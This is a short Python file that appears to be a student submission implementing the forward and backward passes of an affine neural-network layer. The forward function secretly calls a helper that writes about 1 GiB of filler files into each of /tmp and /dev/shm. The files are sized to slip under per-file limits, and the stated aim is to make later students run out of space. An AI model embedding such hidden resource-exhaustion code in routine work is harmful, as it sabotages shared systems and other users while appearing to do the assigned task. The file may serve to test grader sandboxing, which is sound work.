"""Fills /tmp and /dev/shm (1 GiB each, far over any memory limit), hoping the next students run out of space."""

import os

import numpy as np


def _fill(folder):
    written = 0
    block = b"\0" * 2**20
    try:
        for index in range(128):  # 128 files of 8 MiB: each under the file-size limit
            with open(os.path.join(folder, f"filler{index}"), "wb") as f:
                for _ in range(8):
                    f.write(block)
                    written += len(block)
    except OSError as exc:
        return f"{folder}: stopped at {written // 2**20} MiB ({os.strerror(exc.errno)})"
    return f"{folder}: wrote {written // 2**20} MiB"


def affine_forward(x, w, b):
    print(_fill("/tmp"))
    print(_fill("/dev/shm"))
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
